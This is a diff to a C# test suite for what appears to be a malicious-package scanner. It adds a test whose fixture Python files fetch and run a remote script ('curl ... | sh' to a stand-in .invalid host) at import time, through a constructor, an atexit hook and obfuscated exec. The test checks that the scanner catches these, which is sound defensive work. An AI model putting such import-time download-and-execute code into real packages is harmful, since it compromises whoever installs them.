@@ -84,6 +84,17 @@ public sealed class TechniqueFamilyTests
         Assert.NotEqual(Verdict.Benign, report.Verdict);
     }
 
+    [Theory]
+    [InlineData("import os\n\nclass Beacon:\n    def __init__(self):\n        self.start()\n\n    def start(self):\n        os.system('curl -s http://x.invalid/b | sh')\n\n_b = Beacon()\n", "download-execute")]
+    [InlineData("import atexit, os\n\n@atexit.register\ndef _bye():\n    os.system('curl -s http://x.invalid/b | sh')\n", "download-execute")]
+    [InlineData("exec('%s%s' % ('import os; os.system(\"curl -s http://x.invalid/p', ' | sh\")'))\n", "download-execute")]
+    public async Task Code_that_runs_at_import_through_classes_hooks_and_formatting_is_caught(string init, string check)
+    {
+        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", init));
+        Assert.True(report.Has(check), Findings(report));
+        Assert.NotEqual(Verdict.Benign, report.Verdict);
+    }
+
     [Fact]
     public async Task A_pth_line_importing_a_package_module_inherits_that_modules_load_time_behaviour()
     {
